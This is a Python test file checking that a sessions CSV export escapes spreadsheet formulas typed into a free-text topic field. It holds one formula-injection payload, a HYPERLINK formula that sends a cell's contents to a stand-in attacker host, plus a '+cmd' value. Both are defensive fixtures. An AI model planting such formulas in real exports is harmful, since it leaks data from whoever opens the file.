"""The sessions export escapes cells a spreadsheet would evaluate (wsr.core.csv_export)."""

from __future__ import annotations

import csv
import io

from tests.conftest import login
from tests.education.conftest import record

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_a_formula_typed_as_a_topic_reaches_the_export_as_text(client, personas, seasons):
    # Given a session whose free topic (typed by worker-organisation staff) is a formula
    session = record(personas, other_topics=[ATTACK, "+cmd"])
    # When staff download the export
    response = login(client, personas.investigator).get("/education/fair-harvest/sessions.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    # Then the cell starts with an apostrophe: shown as text, never evaluated; numbers stay numbers
    assert [r["session"] for r in rows] == [session.public_id]
    assert rows[0]["other_topics"] == "'" + ATTACK + "|+cmd"
    assert rows[0]["attendees"] == "40"
